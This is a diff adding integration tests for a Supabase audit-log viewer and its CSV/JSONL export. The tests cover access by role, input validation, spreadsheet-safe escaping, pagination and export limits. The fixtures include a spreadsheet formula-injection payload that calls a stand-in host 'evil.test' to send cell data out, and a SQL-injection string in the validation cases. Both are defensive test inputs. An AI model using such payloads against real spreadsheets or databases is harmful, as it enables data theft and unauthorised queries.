@@ -1,0 +1,205 @@
+import { FunctionsHttpError, type SupabaseClient } from '@supabase/supabase-js';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { auditLogResponse } from '#contract/functions/audit-log.ts';
+import { buildPerson } from '#testing/factories/person.ts';
+import { createTestDatabase, type TestDatabase } from '#testing/test-database.ts';
+import { startTestServer, type TestServer } from '#testing/test-server.ts';
+
+let database: TestDatabase;
+let server: TestServer;
+let superAdmin: SupabaseClient;
+let accountAdmin: SupabaseClient;
+let superAdminId: string;
+
+beforeAll(async () => {
+  database = await createTestDatabase();
+  server = await startTestServer(database);
+  const boss = await buildPerson(database.owner, { role: 'super_admin' });
+  superAdminId = boss.userId;
+  superAdmin = await server.clientOf(boss.email);
+  const grace = await buildPerson(database.owner, { role: 'account_admin' });
+  accountAdmin = await server.clientOf(grace.email);
+});
+afterAll(async () => {
+  await server.close();
+  await database.drop();
+});
+
+/** Calls a function the way the web app does, and reads a refusal's body. */
+async function invoke(client: SupabaseClient, name: string, body: Record<string, unknown>) {
+  const { data, error, response } = await client.functions.invoke(name, { body });
+  if (error instanceof FunctionsHttpError) {
+    return { status: error.context.status, data: await error.context.json(), response };
+  }
+  expect(error).toBeNull();
+  return { status: 200, data, response };
+}
+
+async function addAccounts(...names: string[]) {
+  for (const account_name of names) {
+    const { error } = await superAdmin.from('accounts').insert({ account_name });
+    expect(error).toBeNull();
+  }
+}
+
+describe('audit-log', () => {
+  test('gives a super admin pages, newest first', async () => {
+    await addAccounts('One', 'Two', 'Three');
+    const mine = { actorId: superAdminId, tableName: 'public.accounts', limit: 2 };
+    const first = auditLogResponse.parse((await invoke(superAdmin, 'audit-log', mine)).data);
+    expect(first.entries.map(({ subject }) => subject)).toEqual(['Three', 'Two']);
+    const { data } = await invoke(superAdmin, 'audit-log', { ...mine, before: first.next });
+    const second = auditLogResponse.parse(data);
+    expect(second.entries.map(({ subject }) => subject)).toEqual(['One']);
+    expect(second.next).toBeNull();
+  });
+
+  test('is for nobody else', async () => {
+    for (const [name, body] of [
+      ['audit-log', {}],
+      ['audit-log-export', { format: 'csv' }],
+    ] as const) {
+      expect(await invoke(accountAdmin, name, body)).toMatchObject({
+        status: 403,
+        data: { success: false, error: 'Unauthorized' },
+      });
+      expect(await invoke(server.clientOfNobody(), name, body)).toMatchObject({ status: 401 });
+    }
+  });
+
+  test.each([
+    [{ limit: 0 }],
+    [{ limit: 201 }],
+    [{ limit: 1.5 }],
+    [{ before: 'x' }],
+    [{ operation: 'TRUNCATE' }],
+    [{ tableName: 'auth.sessions' }],
+    [{ rowId: 'x' }],
+    [{ actorId: "' or true --" }],
+    [{ from: 'yesterday' }],
+    [{ from: '2026-02-31T00:00:00Z' }],
+    [{ operaton: 'DELETE' }],
+    [{ person: 'a\0b' }],
+  ])('%j is refused rather than passed over', async (body) => {
+    expect(await invoke(superAdmin, 'audit-log', body)).toMatchObject({
+      status: 400,
+      data: { success: false, code: 'validation_failed' },
+    });
+  });
+});
+
+describe('audit-log-export', () => {
+  test('writes the filtered log as CSV that no spreadsheet takes for formulas', async () => {
+    const formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
+    await addAccounts(formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
+    const { data, response } = await invoke(superAdmin, 'audit-log-export', {
+      format: 'csv',
+      actorId: superAdminId,
+      tableName: 'public.accounts',
+      operation: 'INSERT',
+    });
+    expect(response?.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response?.headers.get('content-disposition')).toBe(
+      'attachment; filename="steeple-audit-log.csv"',
+    );
+    expect(response?.headers.get('cache-control')).toBe('no-store');
+    const lines = String(data).split('\r\n"');
+    expect(lines[0]).toBe(
+      '"happened_at","actor_name","actor_email","actor_id","operation","table_name","row_id","subject","account_name","before","after"',
+    );
+    expect(lines[1]).toContain('"Ünïcode ✝"');
+    expect(data).toContain('"Line\r\nbreak, and ""quotes"""');
+    expect(data).toContain(`"'${formula.replaceAll('"', '""')}"`);
+    expect(data).not.toMatch(/(^|,)"\s*[=+\-@]/m);
+  });
+
+  test('begins with the byte order mark that spreadsheets need', async () => {
+    const { data } = await superAdmin.auth.getSession();
+    const answer = await fetch(`${server.url}/functions/v1/audit-log-export`, {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${data.session?.access_token}`,
+        'content-type': 'application/json',
+      },
+      body: '{"format":"csv","person":"nobody is called this"}',
+    });
+    const bytes = new Uint8Array(await answer.arrayBuffer());
+    expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x22]);
+  });
+
+  test('writes JSON lines to the letter, values whole', async () => {
+    const title = '=1+1\nforged line';
+    const prompt = 'x'.repeat(20_000);
+    await superAdmin.from('knowledge').insert({ title, prompt });
+    const { data, response } = await invoke(superAdmin, 'audit-log-export', {
+      format: 'jsonl',
+      actorId: superAdminId,
+      tableName: 'public.knowledge',
+    });
+    expect(response?.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
+    const lines = String(data).trimEnd().split('\n');
+    expect(lines).toHaveLength(1);
+    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ subject: title, after: { title, prompt } });
+  });
+
+  test('goes over many pages, whole and in order', async () => {
+    const { data } = await invoke(superAdmin, 'audit-log-export', {
+      format: 'jsonl',
+      actorId: await manyEntries(1_203),
+    });
+    const numbers = String(data)
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line).after.number);
+    expect(numbers).toEqual(Array.from({ length: 1_203 }, (_, index) => 1_203 - index));
+  });
+
+  test('holds fifty thousand entries at most, and says so in its last line', async () => {
+    const actorId = await manyEntries(50_001);
+    for (const format of ['csv', 'jsonl']) {
+      const { data } = await invoke(superAdmin, 'audit-log-export', { format, actorId });
+      const lines = String(data).trimEnd().split('\n');
+      expect(lines).toHaveLength(format === 'csv' ? 50_002 : 50_001);
+      expect(lines.at(-1)).toContain(
+        'Only the newest 50,000 entries are in this file. Narrow the filter to export the others.',
+      );
+    }
+  }, 60_000);
+
+  test('of somebody who loses the right meanwhile is cut off instead of ending as if whole', async () => {
+    const leaver = await buildPerson(database.owner, { role: 'super_admin' });
+    const client = await server.clientOf(leaver.email);
+    const { data } = await client.auth.getSession();
+    const actorId = await manyEntries(20_000, 'wide '.repeat(400));
+    const answer = await fetch(`${server.url}/functions/v1/audit-log-export`, {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${data.session?.access_token}`,
+        'content-type': 'application/json',
+      },
+      body: JSON.stringify({ format: 'jsonl', actorId }),
+    });
+    const reader = answer.body?.getReader();
+    expect((await reader?.read())?.done).toBe(false);
+    await database.owner.query('delete from auth.users where id = $1', [leaver.userId]);
+    await expect(
+      (async () => {
+        while (!(await reader?.read())?.done) {}
+      })(),
+    ).rejects.toThrow();
+    expect(server.logged.join('')).toContain('an export of the audit log was cut off');
+  }, 60_000);
+});
+
+/** Puts entries of one person of their own into the log, and gives that person's id. */
+async function manyEntries(count: number, note = ''): Promise<string> {
+  const { rows } = await database.owner.query<{ id: string }>(
+    `with one as (select gen_random_uuid() as id), many as (
+       insert into private.audit_log (actor_id, operation, table_name, row_id, after)
+       select one.id, 'INSERT', 'public.accounts', gen_random_uuid(), jsonb_build_object('number', n, 'note', $2::text)
+       from one, generate_series(1, $1) as n order by n
+     ) select id from one`,
+    [count, note],
+  );
+  return rows[0]?.id ?? '';
+}
